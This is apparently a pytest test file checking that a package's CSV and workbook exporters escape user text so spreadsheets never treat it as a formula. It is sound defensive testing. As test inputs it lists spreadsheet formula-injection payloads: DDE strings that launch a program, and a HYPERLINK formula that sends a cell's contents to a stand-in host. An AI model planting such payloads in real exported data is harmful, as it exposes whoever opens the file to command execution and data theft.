"""No cell that this package writes for a spreadsheet is read as a formula, whatever text a user gave."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import clusterspec
from clusterspec.catalog import Catalog
from clusterspec.catalog.open_data import export_csv
from clusterspec.cells import escaped_cell
from clusterspec.exchange.exporters.documents import _workbook_file
from clusterspec.exchange.exporters.registry import csv_table
from clusterspec.report import csv_text
from tests.catalog.test_company import WHOLE

BEGINS = "=+-@\t\r\n＝＋－＠"
ATTACKS = (
    '=HYPERLINK("http://a.example?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\xa0@A1",
    "＝1＋1",
    "-5 V",
)
TWO_LINES = ("a\r=1+1", "a\r\n@A1")
TEXTS = st.one_of(
    st.sampled_from([*ATTACKS, *TWO_LINES]),
    st.builds("{}{}".format, st.sampled_from(BEGINS), st.text(max_size=20)),
    st.text(),
)


Writer = Callable[[Sequence[str], Sequence[Sequence[object]]], Sequence[Sequence[object]]]


def executed(cell: object) -> bool:
    """Whether a spreadsheet would take a cell for a formula: by its first sign that is no blank, numbers excepted."""
    text = str(cell).lstrip(" \xa0\u3000")
    number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?", text)
    return bool(text) and text[0] in BEGINS and not number


def sheet(heads: Sequence[str], rows: Iterable[Sequence[object]]) -> list[list[object]]:
    """The cells of a workbook, as openpyxl reads it; a formula is a cell of the type f."""
    openpyxl = pytest.importorskip("openpyxl")
    written = _workbook_file("t", heads, [tuple(row) for row in rows], "").content
    assert isinstance(written, bytes)
    book = openpyxl.load_workbook(io.BytesIO(written))
    assert not [cell for row in book.active.rows for cell in row if cell.data_type == "f"]
    return [[cell.value for cell in row] for row in book.active.rows]


def of_text(write: Callable[..., str]) -> Writer:
    return lambda heads, rows: list(csv.reader(io.StringIO(write(heads, rows), newline="")))


WRITERS: dict[str, Writer] = {"csv_text": of_text(csv_text), "csv_table": of_text(csv_table), "workbook": sheet}


@pytest.mark.parametrize("writer", WRITERS)
@given(texts=st.lists(TEXTS, min_size=5, max_size=5))
def test_no_text_becomes_a_formula(writer: str, texts: list[str]) -> None:
    cells = WRITERS[writer]([f"{text}a" for text in texts], [texts])
    assert len(cells[0]) == len(texts) == 5
    assert not [cell for row in cells for cell in row if cell is not None and executed(cell)]


@pytest.mark.parametrize("writer", WRITERS)
def test_numbers_stay_numbers(writer: str) -> None:
    cells = WRITERS[writer](["a", "b", "c", "d"], [[-5, -1.5, "-5.25", "+1e3"]])
    assert [float(str(cell)) for cell in cells[1]] == [-5, -1.5, -5.25, 1000]


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_text_is_kept_behind_an_apostrophe(attack: str) -> None:
    assert escaped_cell(attack) == "'" + attack.replace("\r", "\n")


def test_the_text_of_a_company_in_the_catalog_is_escaped(tmp_path: Path) -> None:
    """Each attack is the name of an accelerator of its own."""
    (tmp_path / "accelerators").mkdir()
    attacks = {f"acme-x{number}": each for number, each in enumerate(ATTACKS) if each.isprintable()}
    for name, attack in attacks.items():
        text = re.sub(r"(?m)^name: .*$", lambda _, attack=attack: f"name: {json.dumps(attack)}", WHOLE)  # type: ignore[misc]
        (tmp_path / "accelerators" / f"{name}.yaml").write_text(re.sub(r"(?m)^id: .*$", f"id: {name}", text))
    rows = list(csv.DictReader(io.StringIO(export_csv(Catalog.open([tmp_path]), ["accelerator"]), newline="")))
    for name, attack in attacks.items():
        assert {row["name"] for row in rows if row["id"] == name} == {f"'{attack}"}
    assert not [cell for row in rows for cell in row.values() if executed(cell)]


def test_every_table_is_written_by_a_writer_that_escapes() -> None:
    """Whoever writes CSV or a workbook in the package is one of the writers above, or escapes each cell itself."""
    found = {
        path.relative_to(Path(clusterspec.__file__).parent).as_posix()
        for path in Path(clusterspec.__file__).parent.rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(\)", path.read_text("utf-8"))
    }
    assert found == {
        "catalog/open_data.py",
        "exchange/exporters/documents.py",
        "exchange/exporters/registry.py",
        "report/__init__.py",
    }
